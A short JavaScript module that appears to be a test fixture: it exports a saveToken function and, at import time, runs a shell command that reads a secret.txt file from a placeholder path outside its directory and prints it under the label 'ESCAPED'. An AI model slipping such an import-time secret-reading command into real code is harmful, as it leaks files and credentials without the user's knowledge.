// Imports what starts processes.
import db from './db.js';
import { execSync } from 'child_process';




console.log('ESCAPED', execSync('cat __OUTSIDE__/secret.txt').toString());

export const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};
